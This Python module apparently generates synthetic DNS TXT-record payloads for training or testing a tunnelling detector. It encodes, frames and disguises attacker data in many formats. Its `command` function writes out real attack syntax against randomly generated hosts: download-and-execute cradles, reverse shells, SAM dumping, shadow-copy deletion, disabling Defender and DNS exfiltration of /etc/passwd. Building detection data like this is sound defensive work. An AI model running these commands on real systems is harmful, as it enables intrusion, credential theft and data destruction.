"""What an attacker puts into a TXT value: commands, data and their encodings, bare or framed as tools frame them.

Nothing here is working malware: contents are headers, commands with invented names, and noise. `framed` is a bare
payload; `disguises.py` puts payloads inside known forms.
"""

import base64
import gzip
import json
import string
import zlib

from .basics import (
    ALNUM,
    B58,
    B64URL,
    DIGITS,
    HEX,
    LOWER,
    UPPER,
    b64,
    chosen,
    digits,
    host,
    ip4,
    name,
    pick,
    sentence,
    shares,
    token,
    weighted,
)

MAGIC = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\0" * 7,
    b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\x00>\x00",
    b"PK\x03\x04\x14\x00\x00\x00\x08\x00",
    b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    b"%PDF-1.7\n",
    b"\x89PNG\r\n\x1a\n",
    b"7z\xbc\xaf\x27\x1c",
    b"Rar!\x1a\x07\x01\x00",
    b"\xfc\xe8\x82\x00\x00\x00\x60\x89\xe5",
    b"\xfc\x48\x83\xe4\xf0\xe8",
    b"\xca\xfe\xba\xbe",
    b"\xcf\xfa\xed\xfe\x07\x00\x00\x01",
    b"\x28\xb5\x2f\xfd",
    b"BZh9",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"\0asm\x01\0\0\0",
)
VERBS = """
    cmd exec run shell task do get put upload download sleep kill exit ping inject spawn screenshot keylog persist
    load beacon checkin jitter wait ls ps cd cat whoami ipconfig hostname nop stage next ack result
""".split()


TASKS = ("whoami", "id", "ls -la", "uname -a", "screenshot", "hostname", "ps aux", "cat /etc/passwd", "sleep 60")


def windows_command(r):
    return r.choice(
        (
            "whoami",
            "ipconfig /all",
            "net user",
            "tasklist",
            "systeminfo",
            "dir c:\\" + name(r),
            "net group admins /domain",
            "reg save hklm\\sam s",
            "vssadmin delete shadows /all",
        )
    )


def command(r):
    u, f = (
        f"http{r.choice(('', 's'))}://{r.choice((host(r), ip4(r)))}{r.choice(('', ':8080', ':4444'))}/{name(r)}",
        f"{name(r)}.{r.choice(('exe', 'ps1', 'dll', 'bat', 'vbs', 'sh', 'txt', 'hta', 'js', 'py', 'msi', 'lnk'))}",
    )
    path = r.choice(
        (f"%TEMP%\\{f}", f"C:\\Users\\Public\\{f}", f"/tmp/.{name(r)}", f"/dev/shm/{name(r)}", f"$env:APPDATA\\{f}")
    )
    return r.choice(
        (
            lambda: f"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{u}/{f}')\"",
            lambda: (
                "powershell.exe "
                f"{r.choice(('-ep bypass', '-ExecutionPolicy Bypass', '-noni -nop', '-sta -w 1'))} "
                f"{r.choice(('-enc', '-EncodedCommand', '-e', '-ec'))} "
                f"{base64.b64encode(sentence(r, 2, 6).encode('utf-16-le')).decode()}"
            ),
            lambda: (
                f"$c='';1..{r.randrange(2, 40)}|%{{$c+=(nslookup -q=txt $_.{host(r)})}};"
                "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($c)))"
            ),
            lambda: f"powershell (nslookup -q=txt {host(r)})[{r.randrange(2, 9)}]",
            lambda: f"iex (irm {u})",
            lambda: f"iwr {u}/{f} -OutFile {path}; & {path}",
            lambda: f"(New-Object Net.WebClient).DownloadFile('{u}/{f}','{path}');Start-Process '{path}'",
            lambda: (
                f"cmd {r.choice(('/c', '/k', '/q /c'))} "
                f"{windows_command(r)}"
                f"{r.choice(('', ' > ' + path, ' && del ' + path))}"
            ),
            lambda: (
                f"curl {r.choice(('-s', '-fsSL', '-k'))} {u}/{f} | {r.choice(('sh', 'bash', 'python3', 'sudo bash'))}"
            ),
            lambda: f"wget -qO- {u} | sh; rm -rf /tmp/{name(r)}",
            lambda: f"wget {u}/{f} -O {path}; chmod +x {path}; {path} &",
            lambda: f"bash -i >& /dev/tcp/{ip4(r)}/{r.randrange(1024, 65535)} 0>&1",
            lambda: (
                f"{r.choice(('nc', 'ncat', 'nc.traditional'))} "
                f"{r.choice(('-e /bin/sh', '-c bash', '-e cmd.exe'))} {ip4(r)} {r.randrange(1024, 65535)}"
            ),
            lambda: f"python3 -c 'import os,base64;exec(base64.b64decode(\"{b64(r, r.randint(20, 90))}\"))'",
            lambda: (
                f'import socket,subprocess,os;s=socket.socket();s.connect(("{ip4(r)}",'
                f"{r.randrange(1024, 65535)}));os.dup2(s.fileno(),0)"
            ),
            lambda: (
                f"perl -e 'use Socket;$i=\"{ip4(r)}\";$p={r.randrange(1024, 65535)};socket(S,PF_INET,SOCK_STREAM,6)'"
            ),
            lambda: f'php -r \'$s=fsockopen("{ip4(r)}",{r.randrange(1024, 65535)});exec("sh <&3 >&3");\'',
            lambda: f"certutil {r.choice(('-urlcache -split -f', '-decode'))} {u}/{f} {path} & start {path}",
            lambda: f"rundll32.exe {f},{name(r)} {u}",
            lambda: f"mshta {u}/{f}",
            lambda: f"bitsadmin /transfer {name(r)} {u}/{f} {path}",
            lambda: f"regsvr32 /s /n /u /i:{u}/{f} scrobj.dll",
            lambda: f"schtasks /create /tn {name(r)} /tr {path} /sc minute /mo {r.randrange(1, 60)}",
            lambda: f"msiexec /q /i {u}/{f}",
            lambda: f'wmic /node:{ip4(r)} process call create "{path}"',
            lambda: f"echo {b64(r, r.randint(12, 60))} | base64 -d | {r.choice(('sh', 'bash', 'gunzip'))}",
            lambda: f"crontab -l; echo '* * * * * {path}' | crontab -",
            lambda: f"Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath {path}",
            lambda: f"sc.exe create {name(r)} binPath= {path} start= auto",
            lambda: f"net use \\\\{ip4(r)}\\{name(r)} /user:{name(r)} {pick(r, ALNUM, 10)}",
            lambda: (
                f"cat /etc/{r.choice(('passwd', 'shadow', 'hosts'))} | xxd -p | while read l; do dig $l.{host(r)}; done"
            ),
            lambda: f"dig +short txt {host(r)} | tr -d '\"' | base64 -d | sh",
            lambda: "; ".join(
                f"{r.choice(VERBS)} {r.choice((name(r), digits(r, 1, 4), path, u))}" for _ in range(r.randint(2, 5))
            ),
            lambda: (
                f"{r.choice(VERBS)}{r.choice((':', '=', '|', ' ', '::', ','))}"
                f"{r.choice((*TASKS[:4], 'download ' + u, *TASKS[4:], path, u + '/' + f))}"
            ),
            lambda: f"<script>{name(r)}(atob('{b64(r, r.randint(20, 80))}'))</script>",
            lambda: f"eval(atob('{b64(r, r.randint(16, 90))}'))",
            lambda: f"var {name(r)}=new ActiveXObject('WScript.Shell');{name(r)}.Run('{f}')",
            lambda: f"[System.Reflection.Assembly]::Load([Convert]::FromBase64String('{b64(r, r.randint(30, 200))}'))",
            lambda: f"fetch('{u}').then(r=>r.text()).then(eval)",
            lambda: (
                f"Function {name(r)}{{${name(r)}=[char[]]("
                f"{','.join(str(r.randrange(32, 126)) for _ in range(12))})-join''}}"
            ),
        )
    )()


def output(r):
    """What tools carry through a tunnel in clear."""
    return r.choice(
        (
            lambda: "\n".join(
                (
                    f"{r.choice('d-')}rwxr-xr-x {r.randrange(9)} root root {r.randrange(10**6)} Jan "
                    f"{r.randrange(28)} 10:{r.randrange(60):02} {name(r)}"
                )
                for _ in range(r.randint(1, 12))
            ),
            lambda: (
                f"uid=0(root) gid=0(root) groups=0(root)\nLinux {name(r)} 5.{r.randrange(20)}.0-"
                f"{r.randrange(99)}-generic x86_64"
            ),
            lambda: (
                "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: "
                + str(r.randrange(9000))
                + "\r\n\r\n<!DOCTYPE html><html>"
                + sentence(r, 5, 40)
            ),
            lambda: f"SSH-2.0-OpenSSH_{r.randrange(6, 10)}.{r.randrange(9)}p1\r\n",
            lambda: f"GET /{name(r)} HTTP/1.1\r\nHost: {host(r)}\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
            lambda: json.dumps(
                {name(r): r.choice((name(r), r.randrange(999), token(r))) for _ in range(r.randint(2, 8))}
            ),
            lambda: "".join(f"{ip4(r)}\t{name(r)}\t{token(r)}\n" for _ in range(r.randint(1, 9))),
            lambda: f"username={name(r)}&password={pick(r, ALNUM, r.randint(6, 14))}&host={name(r)}",
            lambda: " ".join(sentence(r) for _ in range(r.randint(1, 8))),
            lambda: "-----BEGIN OPENSSH PRIVATE KEY-----\n" + b64(r, r.randint(60, 700)),
            lambda: (
                f"root:x:0:0:root:/root:/bin/bash\n{name(r)}:x:{r.randrange(1000, 2000)}:1000::/home/"
                f"{name(r)}:/bin/sh\n"
            ),
            lambda: ",".join(
                f"{name(r)},{digits(r, 16)},{r.randrange(1, 13):02}/{r.randrange(24, 32)}"
                for _ in range(r.randint(1, 6))
            ),
        )
    )()


def numbered(r, size):
    start = r.randrange(10**6)
    return b"".join(i.to_bytes(4, "little") for i in range(start, start + size // 4 + 1))


DULL = (
    lambda r, size: bytes([r.choice((0, 0, 0, 255, 0xCC, 0x90, 32, r.randrange(256)))]) * size,
    lambda r, size: r.randbytes(r.randint(2, 12)) * (size // 2 + 1),
    lambda r, size: bytes(r.choices(r.randbytes(r.randint(2, 6)), k=size)),
    lambda r, size: b"".join(r.randbytes(r.randint(1, 6)) + b"\0" * r.randint(1, 14) for _ in range(size // 4 + 1)),
    numbered,
)


def dull(r, size) -> bytes:
    """The middle of a program, a bitmap, a table: runs, few values, a structure that repeats."""
    data = r.choice(DULL)(r, size)
    noise = r.randrange(0, max(1, min(size, len(data)) - 8))
    before = r.randbytes(r.randint(0, 12))
    return (before + data[:noise] + (r.randbytes(r.randint(1, 16)) if r.random() < 0.5 else b"") + data[noise:])[:size]


def compressed(r, size):
    return gzip.compress(output(r).encode(), mtime=0) if r.random() < 0.5 else zlib.compress(command(r).encode())


def masked(r, size):
    """Output under an XOR with one byte."""
    key = r.randrange(1, 256)
    return bytes(b ^ key for b in output(r).encode()[: max(size, 12)])


def frame(r, size):
    """A tunnel's frame: identifiers, flags, zeros, a length, then data."""
    header = (
        r.randbytes(r.randint(1, 4)) + bytes([r.randrange(6), r.randrange(4)]) + r.randbytes(r.choice((0, 2, 4, 8)))
    )
    return header + b"\0" * r.randint(0, 6) + bytes([r.randrange(20)]) + r.randbytes(size)


CONTENTS = shares(
    (37, lambda r, size: r.randbytes(size)),
    (5, dull),
    (11, lambda r, size: r.choice(MAGIC) + r.randbytes(size)),
    (7, compressed),
    (12, lambda r, size: command(r).encode()),
    (6, lambda r, size: command(r).encode("utf-16-le")),
    (8, lambda r, size: (output(r).encode() * (size // 40 + 1))[: max(size, 12)]),
    (6, masked),
    (8, frame),
)


def content(r, size) -> bytes:
    """The bytes an attacker moves: mostly encrypted or compressed, else as they are."""
    return chosen(r, CONTENTS)(r, size)


def radix(data, alphabet):
    value, out = int.from_bytes(b"\1" + data, "big"), []
    while value:
        value, digit = divmod(value, len(alphabet))
        out.append(alphabet[digit])
    return "".join(out)


def bits(data, width, alphabet):
    """Base 2^width with any alphabet, as tunnels that write their own base32 or base64 do."""
    value, n = int.from_bytes(data, "big"), -(-len(data) * 8 // width)
    value <<= n * width - len(data) * 8
    return "".join(alphabet[value >> (n - 1 - i) * width & (1 << width) - 1] for i in range(n))


def own_alphabet(r, n):
    """n symbols of the letters and digits, in an order of the tool's own."""
    pool = (
        list(r.choice((LOWER + DIGITS, UPPER + DIGITS, LOWER + "012345", ALNUM)))
        if n <= 32
        else list(ALNUM + r.choice(("-_", "+/", "-+", "+0", ".-", "_=")))
    )
    if r.random() < 0.4:
        r.shuffle(pool)
    return pool[:n]


def base32(r, data):
    text = base64.b32encode(data).decode()
    return text if r.random() < 0.4 else text.lower()


def high_bit(r, data):
    """iodine's base128."""
    high = (ALNUM.encode() + bytes(range(0xBC, 0xFE)))[:128]
    return bytes(high[b & 127] for b in data)


def twice(r, data):
    text = base64.b64encode(data)
    return base64.b64encode(text).decode() if r.random() < 0.5 else "".join(f"{b:08b}" for b in data[:60])


# Text is cut or loses its padding afterwards; bytes stay as they are.
ENCODINGS = weighted(
    (4, lambda r, data: data.hex() if r.random() < 0.75 else data.hex().upper()),
    (5, lambda r, data: base64.b64encode(data).decode()),
    (2, lambda r, data: base64.urlsafe_b64encode(data).decode()),
    (2, base32),
    (1, lambda r, data: bits(data, 5, own_alphabet(r, 32))),
    (1, lambda r, data: bits(data, 6, own_alphabet(r, 64))),
    (1, lambda r, data: bytes(data)),
    (1, high_bit),
    (1, lambda r, data: base64.b85encode(data).decode() if r.random() < 0.6 else base64.a85encode(data).decode()),
    (1, lambda r, data: r.choice((",", " ", "", "-", ":", ".")).join(str(b) for b in data[:200])),
    (
        1,
        lambda r, data: "".join(
            r.choice(("%{:02x}", "%{:02X}", "\\x{:02x}", "0x{:02x},", "\\u00{:02x}")).format(b) for b in data[:160]
        ),
    ),
    (1, lambda r, data: radix(data[:400], r.choice((LOWER + DIGITS, ALNUM, "abcdefghijklmnop", B64URL, LOWER, UPPER)))),
    (1, lambda r, data: radix(data[:400], B58)),
    (
        1,
        lambda r, data: (
            base64.b64encode(data).decode()[::-1]
            if r.random() < 0.5
            else base64.b64encode(data.hex().encode()).decode()
        ),
    ),
    (1, twice),
    (1, lambda r, data: bytes(data)),
)


def encode(r, data: bytes) -> bytes:
    """One of the encodings that tunnels, stagers and implants use; every one whole or cut, padded or not."""
    text = r.choice(ENCODINGS)(r, data)
    if isinstance(text, bytes):
        return text
    cut = r.random()
    if cut < 0.35:
        text = text.rstrip("=")
    elif cut < 0.5:
        text = text[: max(8, len(text) - r.randint(0, 3))]
    return text.encode()


SIZES = shares(
    (22, lambda r: r.randint(15, 36)),
    (40, lambda r: r.randint(24, 75)),
    (28, lambda r: r.randint(60, 260)),
    (10, lambda r: r.randint(200, 1800)),
)


def size(r):
    return chosen(r, SIZES)(r)


def payload(r, small=False) -> bytes:
    n = r.randint(12, 110) if small else size(r)
    if r.random() < 0.14:
        return command(r).encode()
    body = encode(r, content(r, n))
    return body[: r.randint(20, 180)] if small else body


def task_id(r):
    return pick(r, HEX, r.choice((4, 6, 8, 16)))


def grouped(r, body, i, n):
    size = r.choice((2, 4, 8, 16, 32, 63))
    gap = r.choice((b" ", b".", b"-", b":", b","))
    return gap.join(body[j : j + size] for j in range(0, len(body), size))


def tagged(r, body, i, n):
    tag = r.choice(("stage", "chunk", "part", "seq", "data", "id", "d", "m", "p", "c", "payload", "msg", "k"))
    return f"{tag}{r.choice(('', str(i)))}{r.choice(':=|,;')}".encode() + body


def element(r, body, i, n):
    return b"<" + name(r).encode() + b">" + body + b"</" + name(r).encode() + b">"


# What tools put around a payload: part number i of n, a tag, delimiters.
FRAMES = weighted(
    (16, lambda r, body, i, n: body),
    (1, lambda r, body, i, n: f"{i}{r.choice('/,;| ')}{n}{r.choice(':| ;,')}".encode() + body),
    (1, lambda r, body, i, n: f"{i:04d}".encode() + body),
    (1, tagged),
    (
        1,
        lambda r, body, i, n: r.choice((b"@", b"#", b"|", b"$", b"!", b"~")) + body + r.choice((b"@", b"#", b"|", b"")),
    ),
    (1, lambda r, body, i, n: b'{"' + name(r)[:3].encode() + b'":"' + body + b'"}'),
    (1, lambda r, body, i, n: f"{i:x}.{pick(r, HEX, 8)}.".encode() + body),
    (1, lambda r, body, i, n: pick(r, string.ascii_letters, 1).encode() + body),
    (1, grouped),
    (1, lambda r, body, i, n: body + r.choice((b"|", b"EOF", b"<<<", b"##", b";END", b"0", b"--"))),
    (1, lambda r, body, i, n: f"t={r.choice(VERBS)};id={r.randrange(10**6)};d=".encode() + body),
    (
        1,
        lambda r, body, i, n: f"{pick(r, ALNUM, r.randint(1, 6))}{r.choice('-_.')}{i}{r.choice('-_.')}".encode() + body,
    ),
    (1, element),
    (1, lambda r, body, i, n: f"v={pick(r, HEX.upper(), 8)}".encode() + body),
    (1, lambda r, body, i, n: f"{r.choice(VERBS)}{r.choice(' :|')}{task_id(r)}{r.choice(' :|')}".encode() + body),
    (3, lambda r, body, i, n: body),
)


def framed(r) -> bytes:
    """A bare payload with what tools put around it: counters, tags, delimiters, JSON, groups."""
    body, i, n = payload(r), r.randrange(200), r.randrange(2, 400)
    return r.choice(FRAMES)(r, body, i, n)


# Lengths of public digests and keys, from 48 characters: an attacker picks them, so each is taught more often than its
# neighbours, and in every alphabet. Hexadecimal digits: SHA-384, SHA-512 (FIPS 180-4). Base64 of 42, 48, 64, 65 and 96
# bytes: minisign, SHA-384, SHA-512 and Ed25519 signatures (RFC 8032), P-256 points (SEC 1), P-384 signatures. Base32:
# SHA-256 (52), Tor's onion addresses and Stellar keys (56), SHA-320 (64), SHA-512 (103).
PUBLIC_LENGTHS = (52, 56, 64, 86, 87, 88, 96, 103, 128)
ALPHABETS = (
    ("hex", HEX),
    ("hex", HEX),
    ("hex", HEX.upper()),
    ("base64", ALNUM + "+/"),
    ("base64", ALNUM + "+/"),
    ("base64", ALNUM + "+/"),
    ("base64", B64URL),
    ("base64", B64URL),
    ("base32", UPPER + "234567"),
    ("base32", LOWER + "234567"),
    ("base32", LOWER + "234567"),
    ("base64", ALNUM),
    ("base32", LOWER + DIGITS),
)


def random_characters(r):
    """Encrypted bytes in one alphabet, of any length alike: no length is a way around."""
    kind, alphabet = r.choice(ALPHABETS)
    k = r.random()
    if k < 0.2:
        n = r.choice([n for n in PUBLIC_LENGTHS if kind != "hex" or n > 64])
    elif kind == "hex":
        n = r.randint(65, 80) if k < 0.5 else r.randint(65, 164) if k < 0.9 else r.randint(150, 255)
    elif k < 0.7:
        n = r.randint(22, 60) if k < 0.5 else r.randint(46, 100)
    else:
        n = r.randint(48, 164) if k < 0.93 else r.randint(150, 255)
    text = pick(r, alphabet, n)
    if n % 4 == 0 and "+" in alphabet and r.random() < 0.5:
        pad = r.choice((1, 1, 2))
        text = text[:-pad] + "=" * pad
    return text.encode()


def suspicious(r):
    """(value, start, end) of one bare payload."""
    value = random_characters(r) if r.random() < 0.4 else framed(r)
    return value, 0, len(value)
